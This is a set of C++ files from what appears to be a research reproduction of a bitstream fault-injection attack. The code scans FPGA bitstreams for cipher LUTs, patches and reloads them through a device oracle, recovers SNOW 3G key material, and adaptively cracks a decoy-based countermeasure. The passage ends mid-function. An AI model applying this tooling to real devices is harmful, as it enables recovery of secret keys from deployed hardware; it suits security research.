/// Runs the BiFI campaign: for every occupied LUT position and every rule,
/// patch, reload, and test the keystream for key-recoverable structure.
BifiResult run_bifi(Oracle& oracle, std::span<const u8> golden_bitstream,
                    const BifiOptions& options = {});

/// The BiFI success test, exposed for unit testing: true if `z` is
/// key-recoverable, i.e. it passes the LFSR-reversal consistency check of
/// Section VI-A or is a stuck-at constant.
bool keystream_exploitable(std::span<const u32> z, std::optional<snow3g::RecoveredSecrets>* out);

}  // namespace sbm::attack
