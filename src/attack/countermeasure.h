// Countermeasure-side analysis (Section VII): half-table searching and the
// combinatorial security bound.
//
// When the target XOR is forced into a trivial cut, it lands in one half of
// a dual-output LUT.  A whole-table FINDLUT no longer sees it (Table VI), so
// the attacker must fall back to searching for "a 2-input XOR in one half of
// the truth table, anything in the other" — which explodes the candidate
// count and leads to the C(n, 32) exhaustive-search bound.
#pragma once

#include <cstdint>
#include <span>
#include <vector>

#include "attack/findlut.h"

namespace sbm::attack {

struct HalfMatch {
  size_t byte_index = 0;
  bool o5_half = false;            // which half matched (a6 = 0 half = O5)
  std::array<u8, 4> order{};       // sub-vector order assumed
  logic::InputPermutation perm{};  // 5-variable permutation (positions 0..4)
  u32 half_table = 0;              // the matched 32-bit half
};

/// Finds every LUT position whose O5 or O6 half implements the 5-variable
/// function `half_function` (given as a 32-bit table over a1..a5) under any
/// permutation of the five shared inputs.  `constrain` optionally limits the
/// scan to [begin, end) byte positions — the paper's frame-constrained
/// search (203 of 481 hits).
std::vector<HalfMatch> find_lut_half(std::span<const u8> bitstream, u32 half_function,
                                     const FindLutOptions& options = {}, size_t begin = 0,
                                     size_t end = SIZE_MAX);

/// All half-matches where the half is a 2-input XOR of two of the five
/// shared inputs (the countermeasure search of Section VII-B).
std::vector<HalfMatch> find_xor2_halves(std::span<const u8> bitstream,
                                        const FindLutOptions& options = {}, size_t begin = 0,
                                        size_t end = SIZE_MAX);

/// Deduplicated physical candidate sites for the half-table fallback.
/// `find_xor2_halves` reports every (position, half, permutation) tuple, so
/// one placed XOR2 can appear many times: once per matching permutation,
/// once per half when the stored table is vacuous (lo == hi, a single-output
/// LUT replicated into both halves), and at unaligned byte offsets whose
/// windows overlap a real site.  Counting those duplicates inflates the
/// C(n, 32) resistance bound — decoy placements get counted with
/// replacement.  This helper collapses the raw matches to one entry per
/// physical (site, half): frame-aligned positions only, vacuous tables
/// folded to a single canonical half, first match kept (family order), so
/// the result is deterministic for a given bitstream.
///
/// `fold_vacuous = false` keeps both halves of a vacuous (lo == hi) table
/// as separate candidates.  Statically they are indistinguishable, but a
/// fault oracle tells them apart: a single-output LUT replicated into both
/// halves has one live half (the other zeroes to no effect), while two
/// identical XOR2s packed into one dual-output site are two independently
/// zeroable placements.  The cracker enumerates per-half so it never fuses
/// two co-located decoys into one hypothesis.
std::vector<HalfMatch> unique_xor2_half_sites(std::span<const u8> bitstream,
                                              const FindLutOptions& options = {},
                                              bool fold_vacuous = true);

/// Applies a 5-variable input permutation to a 32-bit half-table (position
/// 5 of the permutation is ignored).
u32 permute_half5(u32 half, const logic::InputPermutation& perm);

/// log2 of the binomial coefficient C(n, k) (Section VII-C: C(171, 32) ~
/// 2^115).
double log2_binomial(unsigned n, unsigned k);

/// The Lemma 1 lower bound on exhaustive-search operations: (e(m+r)/m)^m,
/// returned as log2.
double log2_lemma_bound(unsigned m, unsigned r);

/// Minimum decoy ratio x (r = m*x) for a 2^`bits` search complexity with m
/// targets: solves (e(1+x))^m >= 2^bits (Section VII-A: x >= 16/e - 1 ~ 4.9
/// for m = 32, bits = 128).
double min_decoy_ratio(unsigned m, double bits);

}  // namespace sbm::attack
