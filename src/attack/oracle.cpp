#include "attack/oracle.h"

#include <algorithm>

#include "obs/metrics.h"
#include "obs/trace.h"
#include "runtime/parallel.h"
#include "simd/wide.h"

namespace sbm::attack {

using runtime::ProbeError;
using runtime::ProbeOutcome;

namespace {

obs::Counter& physical_run_counter() {
  static obs::Counter& c = obs::MetricsRegistry::global().counter("oracle.physical_runs");
  return c;
}

/// Probes that executed one-at-a-time through run_one while batching was in
/// play.  Zero whenever a batch device is available: the noisy bench asserts
/// on this to prove no re-read ever falls off the wide path as a straggler.
obs::Counter& singleton_run_counter() {
  static obs::Counter& c = obs::MetricsRegistry::global().counter("oracle.singleton_runs");
  return c;
}

}  // namespace

ProbeOutcome DeviceOracle::run_one(std::span<const u8> bitstream, size_t words) const {
  fpga::Device device = system_.make_device();
  if (!device.configure(bitstream)) return ProbeError::kRejected;
  return device.keystream(iv_, words);
}

ProbeOutcome DeviceOracle::run(std::span<const u8> bitstream, size_t words) {
  ++runs_;
  physical_run_counter().add();
  return run_one(bitstream, words);
}

std::vector<ProbeOutcome> DeviceOracle::run_batch(
    std::span<const std::vector<u8>> bitstreams, size_t words) {
  const size_t n = bitstreams.size();
  std::vector<ProbeOutcome> out(n);
  if (n == 0) return out;

  static obs::Histogram& lanes_hist =
      obs::MetricsRegistry::global().histogram("oracle.batch_lanes");
  // Width is a backend property: the knob accepts up to simd::kMaxLanes and
  // each call clamps to the lanes the active backend actually offers.
  const simd::Backend backend = simd::active_backend();
  const unsigned width = std::clamp(batch_width_, 1u, simd::backend_lanes(backend));
  if (width == 1 || system_.snapshot == nullptr) {
    // Pure scalar reference path (also the fallback when the system carries
    // no snapshot, e.g. hand-built test fixtures).
    obs::Span span("oracle", "batch_scalar", "probes", n);
    singleton_run_counter().add(n);
    for (size_t i = 0; i < n; ++i) out[i] = run_one(bitstreams[i], words);
  } else {
    const size_t chunks = runtime::chunk_count(n, width);
    runtime::parallel_for(
        pool_, chunks,
        [&](size_t c) {
          const size_t begin = c * width;
          const unsigned lanes = static_cast<unsigned>(std::min<size_t>(width, n - begin));
          obs::Span span("oracle", "batch_chunk", "lanes", lanes, "begin", begin);
          lanes_hist.observe(lanes);
          if (lanes <= fpga::BatchDevice::kLanes) {
            // One-lane chunks take this path too: a single-lane BatchDevice
            // produces the identical outcome (nullopt lane -> kRejected) and
            // keeps straggler re-reads off the scalar singleton path.
            // A ragged tail (or a narrow width) fits the scalar u64 device.
            fpga::BatchDevice dev = system_.make_batch_device();
            for (unsigned lane = 0; lane < lanes; ++lane) {
              dev.configure_lane(lane, bitstreams[begin + lane]);
            }
            auto ks = dev.keystream(iv_, words, lanes);
            for (unsigned lane = 0; lane < lanes; ++lane) {
              out[begin + lane] = ProbeOutcome(std::move(ks[lane]));
            }
            return;
          }
          auto dev = simd::make_wide_device(system_, simd::best_fit_backend(lanes, backend));
          if (dev == nullptr) {
            // Unreachable once width was clamped to the resolved backend;
            // kept as a safe serial fallback rather than an assert.
            singleton_run_counter().add(lanes);
            for (unsigned lane = 0; lane < lanes; ++lane) {
              out[begin + lane] = run_one(bitstreams[begin + lane], words);
            }
            return;
          }
          for (unsigned lane = 0; lane < lanes; ++lane) {
            dev->configure_lane(lane, bitstreams[begin + lane]);
          }
          auto ks = dev->keystream(iv_, words, lanes);
          for (unsigned lane = 0; lane < lanes; ++lane) {
            out[begin + lane] = ProbeOutcome(std::move(ks[lane]));
          }
        },
        /*min_grain=*/1);
  }
  // Each lane was one paper-cost reconfiguration; account on the calling
  // thread after the barrier so runs_ never races.
  runs_ += n;
  physical_run_counter().add(n);
  return out;
}

unsigned DeviceOracle::batch_lanes() const {
  if (system_.snapshot == nullptr) return 1;  // scalar fallback path
  return std::clamp(batch_width_, 1u, simd::backend_lanes(simd::active_backend()));
}

}  // namespace sbm::attack
