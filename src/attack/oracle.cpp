#include "attack/oracle.h"

namespace sbm::attack {

std::optional<std::vector<u32>> DeviceOracle::run(std::span<const u8> bitstream, size_t words) {
  ++runs_;
  fpga::Device device = system_.make_device();
  if (!device.configure(bitstream)) return std::nullopt;
  return device.keystream(iv_, words);
}

}  // namespace sbm::attack
