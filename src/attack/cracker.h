// Oracle-guided countermeasure cracker (SAT-attack style).
//
// The Section VII countermeasure hides the 32 target XORs v[i] among ~10x
// as many identically-shaped XOR2 placements and reports the static
// exhaustive-search bound C(n - 32, 32) ~ 2^115.  That bound assumes the
// attacker must *choose* a 32-placement subset blindly.  An attacker with
// the device oracle is not blind: like a SAT attack on logic locking, it
// treats the decoy assignment as an unknown key, keeps the set of
// hypotheses consistent with every observed response, and each round
// issues the fault pattern that maximally splits the surviving set.
//
//   * Candidate model — every frame-aligned XOR2 half placement is a
//     potential source of some v[i] (DecoyHypothesisSet).
//   * Probe — zero a subset of candidate halves on top of the zero-load
//     (beta) baseline and classify the keystream against a 65-class
//     reference library: baseline, source-cut(i) (v[i] dead on both the
//     z and feedback paths) and column-dead(i) (only z[i] dead — the
//     z-path decoy's signature), everything else kOther.
//   * Round 1 (singletons) — a single-site zeroing is the maximal-entropy
//     split available: its outcome ranges over all 66 classes and is
//     independent of every other site, so one batched round classifies
//     the whole pool.  The hypothesis measure sum_i log2(u + |C_i|)
//     (u = unclassified sites, C_i = bit-i claimants) drops from the
//     static bound to ~0-50 bits.
//   * Round 2 (pairs) — bits with several source-cut claimants get every
//     intra-class pair zeroed together.  A baseline response proves the
//     pair cancels (an XOR-recombined copy class): if *all* pairs cancel,
//     the class is response-equalized and no adaptive probe whatsoever can
//     separate its members — the cracker terminates with that proof of
//     ambiguity instead of a unique identification.
//
// The engine is split so the logic is testable without a device: the
// DecoyHypothesisSet + run_crack_loop core speaks candidate *ids* against
// an abstract batch oracle; the Cracker binds it to a ProbeSession over
// the bit-sliced device oracle.
#pragma once

#include <array>
#include <functional>
#include <map>
#include <optional>
#include <string>
#include <vector>

#include "attack/countermeasure.h"
#include "attack/oracle.h"
#include "attack/probe_session.h"

namespace sbm::attack {

/// Classified keystream response of a candidate-subset zeroing probe.
enum class ResponseClass : u8 {
  kBaseline,    // indistinguishable from the beta baseline
  kSourceCut,   // matches the source-cut(bit) reference: claims to be v[bit]
  kColumnDead,  // matches column-dead(bit): a z-path-only decoy signature
  kOther,       // some other corruption
  kRejected,    // device refused the patched bitstream
};

struct ClassifiedResponse {
  ResponseClass cls = ResponseClass::kOther;
  int bit = -1;  // for kSourceCut / kColumnDead, else -1
  bool operator==(const ClassifiedResponse&) const = default;
};

/// What a candidate id is currently believed to be.
enum class CandidateState : u8 {
  kUnknown,     // not probed yet: could still be any bit's source
  kClaimant,    // singleton gave source-cut(bit): possible source of `bit`
  kEliminated,  // baseline / column-dead / other / rejected: not a source
};

/// The surviving "which placements are the real v sources" hypothesis set.
///
/// Candidates are opaque ids 0..size-1.  The measure
///   log2_hypotheses() = sum_i log2(u + |C_i|)
/// (u = unknown candidates, C_i = claimants of bit i) upper-bounds the
/// log2 count of assignments consistent with the evidence so far, equals 0
/// exactly when the assignment is unique, and strictly decreases whenever
/// any candidate leaves kUnknown — the monotone-progress invariant the
/// property tests pin.
class DecoyHypothesisSet {
 public:
  explicit DecoyHypothesisSet(size_t candidates, unsigned bits = 32);

  size_t size() const { return state_.size(); }
  unsigned bits() const { return static_cast<unsigned>(claimants_.size()); }

  /// Records a singleton response for `id`.
  void classify(size_t id, const ClassifiedResponse& response);
  /// Records a pair response (both ids zeroed in one probe).
  void note_pair(size_t a, size_t b, const ClassifiedResponse& response);

  CandidateState state(size_t id) const { return state_[id]; }
  const std::vector<size_t>& claimants(unsigned bit) const { return claimants_[bit]; }
  size_t unknown() const { return unknown_; }

  double log2_hypotheses() const;

  /// Every bit has exactly one claimant and nothing is unclassified.
  bool unique() const;
  /// Some bit's claimant class is proven response-equalized: every
  /// intra-class pair cancels to baseline, so its members are
  /// interchangeable under any further fault pattern.
  bool proven_ambiguous() const;
  /// True when `bit` has > 1 claimants and all pairs probed baseline.
  bool bit_proven_ambiguous(unsigned bit) const;

  /// Greedy probe planning.  While unknowns remain, the next round is one
  /// singleton per unknown id (the maximal-entropy split).  Afterwards,
  /// bits with multiple claimants get their unprobed intra-class pairs.
  /// An empty plan means the loop is done (unique, proven ambiguous, or
  /// out of informative probes).
  std::vector<std::vector<size_t>> plan() const;

 private:
  std::vector<CandidateState> state_;
  std::vector<int> claimed_bit_;                 // per id, -1 unless kClaimant
  std::vector<std::vector<size_t>> claimants_;   // per bit, sorted ids
  std::map<std::pair<size_t, size_t>, ClassifiedResponse> pairs_;
  size_t unknown_ = 0;
};

/// Batch oracle abstraction: each entry is a set of candidate ids zeroed
/// together; nullopt marks an unanswerable probe (device lost).
using CrackProbeFn = std::function<std::vector<std::optional<ClassifiedResponse>>(
    const std::vector<std::vector<size_t>>&)>;

struct CrackLoopStats {
  size_t rounds = 0;
  size_t probes = 0;  // logical probes issued through the oracle fn
  std::vector<double> log2_by_round;
  bool aborted = false;  // oracle returned nullopt mid-round
};

/// Runs the greedy split loop until the hypothesis set is unique, proven
/// ambiguous, or no informative probe remains.  Deterministic: probe order
/// is a pure function of the hypothesis state.
CrackLoopStats run_crack_loop(DecoyHypothesisSet& hyp, const CrackProbeFn& probe);

struct CrackerConfig {
  size_t words = 16;  // keystream words per probe (>= 16 keeps the 65
                      // reference classes pairwise distinct)
  FindLutOptions find;
  CrcHandling crc = CrcHandling::kDisable;
  runtime::ProbeCache* cache = nullptr;
  runtime::RetryPolicy retry;
  runtime::ControllerKind controller = runtime::ControllerKind::kStatic;
  runtime::AdaptiveConfig adaptive;
  /// Settled probes from a prior partial run (checkpoint resume); requires
  /// `cache`.  Identical probes are then answered without touching the
  /// board, so a resumed crack re-pays zero settled probes.
  std::vector<SavedProbe> resume;
};

struct CrackResult {
  bool success = false;  // ran to a verdict (unique or proven ambiguous)
  bool unique = false;
  bool proven_ambiguous = false;
  std::string failure;

  size_t candidates = 0;        // per-half candidate placements probed
  size_t unique_sites = 0;      // defender-metric site count (vacuous folded)
  double log2_static_bound = 0; // C(unique_sites - 32, 32), the defender claim
  double log2_hypotheses_final = 0;
  size_t rounds = 0;
  std::vector<double> log2_by_round;

  /// Per bit: byte indexes of the surviving source claimants (size 1 when
  /// unique; the whole equalized class otherwise).
  std::array<std::vector<size_t>, 32> claimant_bytes;

  // Honest probe accounting (same contract as AttackResult).
  size_t adaptive_probes = 0;  // physical oracle configurations
  size_t cache_hits = 0;
  size_t probe_calls = 0;
  runtime::RetryStats retry_stats;
  std::vector<SavedProbe> salvaged;  // settled outcomes for checkpointing

  std::vector<std::string> log;
};

/// Device-bound cracker: binds the hypothesis loop to a ProbeSession over
/// the batch oracle, with the same CRC / cache / controller plumbing as the
/// key-recovery Attack.
class Cracker {
 public:
  Cracker(Oracle& oracle, std::span<const u8> golden, const CrackerConfig& config);

  CrackResult execute();

 private:
  Oracle& oracle_;
  CrackerConfig config_;
  ProbeSession session_;
  std::vector<u8> golden_;
};

}  // namespace sbm::attack
