#include "attack/scan_engine.h"

#include <algorithm>
#include <map>
#include <mutex>

#include "bitstream/lut_coding.h"
#include "common/flat_map.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "runtime/parallel.h"

namespace sbm::attack {

using bitstream::kChunkBytes;
using bitstream::kSubVectors;
using logic::TruthTable6;

PatternIndex::PatternIndex(std::span<const TruthTable6> functions, bool try_all_orders)
    : num_candidates_(functions.size()), try_all_orders_(try_all_orders) {
  if (try_all_orders_) {
    const auto& all = all_chunk_orders();
    orders_.assign(all.begin(), all.end());
  } else {
    const auto& dev = bitstream::device_chunk_orders();
    orders_.assign(dev.begin(), dev.end());
  }

  // Dedup sets hoisted out of the candidate loop: FlatMap::clear keeps the
  // capacity, so after the first candidate warms them up the 720-permutation
  // inner loops probe flat, already-sized tables with no node allocation.
  FlatMap<u64, u32, U64MixHash> seen;
  FlatMap<u64, u32, U64MixHash> image_seen;
  std::vector<std::pair<u64, u32>> distinct;  // (B, pattern index)
  for (size_t c = 0; c < functions.size(); ++c) {
    // Distinct xi-mapped patterns, first permutation wins — the same dedup
    // precompute_patterns does, so matched (table, perm) metadata agrees.
    seen.clear();
    distinct.clear();
    for (const auto& perm : logic::all_permutations6()) {
      const TruthTable6 t = functions[c].permuted(perm);
      const u64 b = bitstream::xi_permute(t.bits());
      const auto [slot, inserted] = seen.try_emplace(b, static_cast<u32>(patterns_.size()));
      if (!inserted) continue;
      patterns_.push_back({t, perm});
      distinct.emplace_back(b, *slot);
    }
    // One entry per distinct memory image, lowest order index wins: when two
    // (pattern, order) pairs store identically, the serial scan's order loop
    // hits the earlier order first and breaks — Mark(l) semantics.
    image_seen.clear();
    for (u16 o = 0; o < orders_.size(); ++o) {
      for (const auto& [b, pattern] : distinct) {
        const u64 image = bitstream::storage_image(b, orders_[o]);
        if (!image_seen.try_emplace(image, 0).second) continue;
        entries_.push_back({image, pattern, static_cast<u16>(c), o});
      }
    }
  }

  // CSR bucket table over the first stored chunk.  The per-entry tail of the
  // sort key is fully determined (one pattern per (candidate, image, order)),
  // so the layout is independent of hash-map iteration order.
  std::sort(entries_.begin(), entries_.end(), [](const Entry& a, const Entry& b) {
    const u16 ba = static_cast<u16>(a.image);
    const u16 bb = static_cast<u16>(b.image);
    if (ba != bb) return ba < bb;
    if (a.candidate != b.candidate) return a.candidate < b.candidate;
    if (a.order != b.order) return a.order < b.order;
    return a.image < b.image;
  });
  bucket_start_.assign((1u << 16) + 1, 0);
  for (const Entry& e : entries_) ++bucket_start_[static_cast<u16>(e.image) + 1];
  for (size_t i = 1; i < bucket_start_.size(); ++i) bucket_start_[i] += bucket_start_[i - 1];
  // 64K-bit occupancy bitmap over the buckets.  Almost every byte position
  // lands in an empty bucket, so the hot-loop prefilter reads this 8KB
  // L1-resident bitmap instead of the 256KB CSR offset array.
  bucket_nonempty_.assign((1u << 16) / 64, 0);
  for (const Entry& e : entries_) {
    const u16 b = static_cast<u16>(e.image);
    bucket_nonempty_[b >> 6] |= u64{1} << (b & 63);
  }
}

void PatternIndex::scan_range(std::span<const u8> bitstream, size_t offset_d, size_t l_begin,
                              size_t l_end, std::vector<std::vector<LutMatch>>& out) const {
  const size_t d = offset_d;
  if (bitstream.size() < (kSubVectors - 1) * d + kChunkBytes) return;
  const size_t last = bitstream.size() - (kSubVectors - 1) * d - kChunkBytes;
  l_end = std::min(l_end, last + 1);
  const u8* bytes = bitstream.data();
  for (size_t l = l_begin; l < l_end; ++l) {
    // Prefilter: one 16-bit load + one bitmap probe per byte position.
    const u32 first = bytes[l] | (u32{bytes[l + 1]} << 8);
    if (((bucket_nonempty_[first >> 6] >> (first & 63)) & 1) == 0) continue;
    const u32 begin = bucket_start_[first];
    const u32 end = bucket_start_[first + 1];
    if (begin == end) continue;
    // Bucket hit: gather the remaining 3 chunks once and confirm candidates
    // against the full 64-bit memory image.
    const u64 image = u64{first} |
                      (u64{bitstream::read_chunk16(bitstream, l + d)} << 16) |
                      (u64{bitstream::read_chunk16(bitstream, l + 2 * d)} << 32) |
                      (u64{bitstream::read_chunk16(bitstream, l + 3 * d)} << 48);
    for (u32 e = begin; e < end; ++e) {
      const Entry& entry = entries_[e];
      if (entry.image != image) continue;
      const Pattern& p = patterns_[entry.pattern];
      out[entry.candidate].push_back({l, p.table, p.perm, orders_[entry.order]});
      // At most one entry per candidate can match a given image (images are
      // deduped per candidate), so no Mark(l) bookkeeping is needed here.
    }
  }
}

std::vector<std::vector<LutMatch>> scan_all(std::span<const u8> bitstream,
                                            const PatternIndex& index,
                                            const FindLutOptions& options) {
  std::vector<std::vector<LutMatch>> out(index.candidates());
  const size_t d = options.offset_d;
  if (bitstream.size() < (kSubVectors - 1) * d + kChunkBytes) return out;
  const size_t positions = bitstream.size() - (kSubVectors - 1) * d - kChunkBytes + 1;

  obs::Span span("scan", "scan_all", "candidates", index.candidates(), "positions", positions);
  static obs::Counter& scanned =
      obs::MetricsRegistry::global().counter("scan.positions_scanned");
  scanned.add(positions);

  const size_t shards = runtime::shard_count(options.pool, positions, options.shard_grain);
  span.arg("shards", shards);
  if (shards <= 1) {
    index.scan_range(bitstream, d, 0, positions, out);
    return out;
  }
  // Contiguous byte-range shards; concatenating shard outputs per candidate
  // in range order reproduces the serial ascending-l order exactly.
  auto per_shard = runtime::parallel_map(
      options.pool, shards,
      [&](size_t s) {
        const size_t begin = positions * s / shards;
        const size_t end = positions * (s + 1) / shards;
        obs::Span shard_span("scan", "scan_shard", "begin", begin, "end", end);
        std::vector<std::vector<LutMatch>> part(index.candidates());
        index.scan_range(bitstream, d, begin, end, part);
        return part;
      },
      /*min_grain=*/1);
  for (const auto& part : per_shard) {
    for (size_t c = 0; c < part.size(); ++c) {
      out[c].insert(out[c].end(), part[c].begin(), part[c].end());
    }
  }
  return out;
}

namespace {

struct IndexKey {
  std::vector<u64> functions;
  size_t offset_d;
  bool try_all_orders;
  bool operator<(const IndexKey& o) const {
    if (functions != o.functions) return functions < o.functions;
    if (offset_d != o.offset_d) return offset_d < o.offset_d;
    return try_all_orders < o.try_all_orders;
  }
};

std::mutex& cache_mutex() {
  static std::mutex mu;
  return mu;
}

std::map<IndexKey, std::shared_ptr<const PatternIndex>>& cache() {
  static std::map<IndexKey, std::shared_ptr<const PatternIndex>> c;
  return c;
}

}  // namespace

std::shared_ptr<const PatternIndex> shared_pattern_index(std::span<const TruthTable6> functions,
                                                         const FindLutOptions& options) {
  IndexKey key;
  key.functions.reserve(functions.size());
  for (const TruthTable6& f : functions) key.functions.push_back(f.bits());
  key.offset_d = options.offset_d;
  key.try_all_orders = options.try_all_orders;
  static obs::Counter& index_hits =
      obs::MetricsRegistry::global().counter("scan.index_cache_hits");
  static obs::Counter& index_misses =
      obs::MetricsRegistry::global().counter("scan.index_cache_misses");
  {
    std::lock_guard<std::mutex> lock(cache_mutex());
    const auto it = cache().find(key);
    if (it != cache().end()) {
      index_hits.add();
      return it->second;
    }
  }
  index_misses.add();
  // Compile outside the lock so concurrent misses on different keys don't
  // serialize; a losing racer on the same key adopts the stored index.
  std::shared_ptr<const PatternIndex> built;
  {
    obs::Span span("scan", "compile_index", "functions", functions.size());
    built = std::make_shared<const PatternIndex>(functions, options.try_all_orders);
  }
  std::lock_guard<std::mutex> lock(cache_mutex());
  return cache().try_emplace(std::move(key), std::move(built)).first->second;
}

size_t pattern_index_cache_size() {
  std::lock_guard<std::mutex> lock(cache_mutex());
  return cache().size();
}

void pattern_index_cache_clear() {
  std::lock_guard<std::mutex> lock(cache_mutex());
  cache().clear();
}

}  // namespace sbm::attack
