// The attacker's view of the victim: load a (modified) bitstream, get
// keystream words back.  Nothing else — no netlist, no placement database.
#pragma once

#include <cstdint>
#include <optional>
#include <span>
#include <vector>

#include "common/bits.h"
#include "fpga/system.h"
#include "snow3g/snow3g.h"

namespace sbm::attack {

class Oracle {
 public:
  virtual ~Oracle() = default;

  /// Loads `bitstream` into the victim and generates `words` keystream
  /// words.  Returns std::nullopt if the device rejects the bitstream.
  virtual std::optional<std::vector<u32>> run(std::span<const u8> bitstream, size_t words) = 0;

  /// Number of configuration+keystream runs performed so far (the paper's
  /// cost metric: each run is a physical reconfiguration of the board).
  size_t runs() const { return runs_; }

 protected:
  size_t runs_ = 0;
};

/// Oracle backed by the simulated FPGA device.  The IV is whatever the host
/// application uses; the attacker only needs it to be stable across runs.
class DeviceOracle : public Oracle {
 public:
  DeviceOracle(const fpga::System& system, const snow3g::Iv& iv) : system_(system), iv_(iv) {}

  std::optional<std::vector<u32>> run(std::span<const u8> bitstream, size_t words) override;

 private:
  const fpga::System& system_;
  snow3g::Iv iv_;
};

}  // namespace sbm::attack
