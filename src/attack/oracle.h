// The attacker's view of the victim: load a (modified) bitstream, get
// keystream words back.  Nothing else — no netlist, no placement database.
#pragma once

#include <cstdint>
#include <span>
#include <vector>

#include "common/bits.h"
#include "fpga/system.h"
#include "runtime/retry.h"
#include "runtime/thread_pool.h"
#include "simd/backend.h"
#include "snow3g/snow3g.h"

namespace sbm::attack {

class Oracle {
 public:
  virtual ~Oracle() = default;

  /// Loads `bitstream` into the victim and generates `words` keystream
  /// words.  The outcome is status-or-value (runtime::ProbeOutcome): the
  /// keystream on success, otherwise a ProbeError — kRejected when the
  /// device refuses the configuration, and on flaky hardware kCorrupt /
  /// kTimeout / kDead (see runtime/retry.h; an ideal simulated device only
  /// ever rejects).
  virtual runtime::ProbeOutcome run(std::span<const u8> bitstream, size_t words) = 0;

  /// Runs a batch of independent candidates; element i is run(bitstreams[i],
  /// words).  Each element still costs one reconfiguration in the paper's
  /// metric (runs() grows by bitstreams.size()) — batching only changes
  /// host-side wall clock, not attack cost.  The default loops over run().
  virtual std::vector<runtime::ProbeOutcome> run_batch(
      std::span<const std::vector<u8>> bitstreams, size_t words) {
    std::vector<runtime::ProbeOutcome> out;
    out.reserve(bitstreams.size());
    for (const auto& b : bitstreams) out.push_back(run(b, words));
    return out;
  }

  /// Number of configuration+keystream runs performed so far: every
  /// physical reconfiguration of the board, including the retries and
  /// confirmation votes the attack layer accounts separately from the
  /// paper's per-logical-probe cost metric.
  size_t runs() const { return runs_; }

  /// Lanes one run_batch chunk can execute together — the scheduling grain
  /// the attack layer packs confirmation re-reads into (a re-read riding a
  /// partially-filled chunk is wall-clock free).  1 means the oracle runs
  /// probes one at a time.
  virtual unsigned batch_lanes() const { return 1; }

  /// Physical runs the oracle spent on its own initiative, beyond what the
  /// attack layer demanded — a fleet's migration replays and hedge
  /// duplicates (fleet::FleetOracle).  Always <= runs(); the attack layer
  /// reports the delta as AttackResult::migration_runs so the ledger
  /// physical = oracle + retry + vote + migration stays balanced.
  virtual size_t internal_runs() const { return 0; }

  /// Health feedback from the retry/vote layer: `count` reads were found
  /// corrupt (truncated or vote-disagreeing) since the last note.  Silent
  /// bit-flips are invisible at the oracle boundary — only voting exposes
  /// them — so a health-tracking oracle needs this back-channel to
  /// quarantine a board that lies.  Default: ignore.
  virtual void note_corruptions(size_t count) { (void)count; }

 protected:
  size_t runs_ = 0;
};

/// Oracle backed by the simulated FPGA device.  The IV is whatever the host
/// application uses; the attacker only needs it to be stable across runs.
///
/// run_batch packs up to `batch_width` candidates into the lanes of one
/// bit-sliced batch device — chunks of at most 64 lanes use the scalar u64
/// reference, wider chunks the 256/512-lane device of the active SIMD
/// backend (simd::active_backend(); batch_width is clamped to its lane
/// count per call).  Chunks shard across `pool` when given; results are
/// bit-identical to the scalar path for any width/thread count/backend.
class DeviceOracle : public Oracle {
 public:
  DeviceOracle(const fpga::System& system, const snow3g::Iv& iv,
               runtime::ThreadPool* pool = nullptr, unsigned batch_width = simd::kMaxLanes)
      : system_(system), iv_(iv), pool_(pool), batch_width_(batch_width) {}

  runtime::ProbeOutcome run(std::span<const u8> bitstream, size_t words) override;
  std::vector<runtime::ProbeOutcome> run_batch(
      std::span<const std::vector<u8>> bitstreams, size_t words) override;
  unsigned batch_lanes() const override;

 private:
  runtime::ProbeOutcome run_one(std::span<const u8> bitstream, size_t words) const;

  const fpga::System& system_;
  snow3g::Iv iv_;
  runtime::ThreadPool* pool_ = nullptr;
  unsigned batch_width_ = simd::kMaxLanes;
};

}  // namespace sbm::attack
