#include "attack/countermeasure.h"

#include <algorithm>
#include <cmath>
#include <map>
#include <numeric>
#include <unordered_map>

#include "bitstream/parser.h"
#include "bitstream/patcher.h"

namespace sbm::attack {

using bitstream::kChunkBytes;
using bitstream::kSubVectors;
using logic::InputPermutation;

namespace {

/// Bit positions of the a6 = 0 (low, O5) half of F inside B = xi(F).
u64 lo_half_mask() {
  static const u64 mask = bitstream::xi_permute(0x00000000ffffffffull);
  return mask;
}

struct HalfPattern {
  InputPermutation perm;
  u32 half;
};


/// All permutations of the first five variables (position 5 fixed).
const std::vector<InputPermutation>& perms5() {
  static const std::vector<InputPermutation> perms = [] {
    std::vector<InputPermutation> out;
    InputPermutation p = {0, 1, 2, 3, 4, 5};
    do {
      out.push_back(p);
    } while (std::next_permutation(p.begin(), p.begin() + 5));
    return out;
  }();
  return perms;
}

std::vector<HalfMatch> scan_halves(std::span<const u8> bitstream,
                                   const std::vector<HalfPattern>& patterns,
                                   const FindLutOptions& options, size_t begin, size_t end) {
  std::vector<HalfMatch> out;
  const size_t d = options.offset_d;
  if (bitstream.size() < (kSubVectors - 1) * d + kChunkBytes) return out;
  const size_t last =
      std::min<size_t>(end, bitstream.size() - (kSubVectors - 1) * d - kChunkBytes + 1);

  const u64 lo_mask = lo_half_mask();
  const u64 hi_mask = ~lo_mask;
  // Keyed by the masked B image of each candidate half.
  std::unordered_map<u64, const HalfPattern*> lo_keys, hi_keys;
  for (const HalfPattern& p : patterns) {
    lo_keys.try_emplace(bitstream::xi_permute(u64{p.half}), &p);
    hi_keys.try_emplace(bitstream::xi_permute(u64{p.half} << 32), &p);
  }

  const auto& orders = bitstream::device_chunk_orders();
  for (size_t l = begin; l < last; ++l) {
    for (const auto& order : orders) {
      const u64 b = bitstream::assemble_b(bitstream, l, d, order);
      bool hit = false;
      if (const auto it = lo_keys.find(b & lo_mask); it != lo_keys.end()) {
        out.push_back({l, true, order, it->second->perm, it->second->half});
        hit = true;
      }
      if (const auto it2 = hi_keys.find(b & hi_mask); it2 != hi_keys.end()) {
        out.push_back({l, false, order, it2->second->perm, it2->second->half});
        hit = true;
      }
      if (hit) break;  // Mark(l): both halves reported, other orders skipped
    }
  }
  return out;
}

}  // namespace

std::vector<HalfMatch> find_lut_half(std::span<const u8> bitstream, u32 half_function,
                                     const FindLutOptions& options, size_t begin, size_t end) {
  std::vector<HalfPattern> patterns;
  for (const auto& perm : perms5()) {
    const u32 t = permute_half5(half_function, perm);
    if (std::none_of(patterns.begin(), patterns.end(),
                     [t](const HalfPattern& p) { return p.half == t; })) {
      patterns.push_back({perm, t});
    }
  }
  return scan_halves(bitstream, patterns, options, begin, end);
}

std::vector<HalfMatch> find_xor2_halves(std::span<const u8> bitstream,
                                        const FindLutOptions& options, size_t begin, size_t end) {
  // One canonical XOR2 (a1 ^ a2); permutations generate every pair.
  constexpr u32 kXorA1A2 = 0xaaaaaaaau ^ 0xccccccccu;
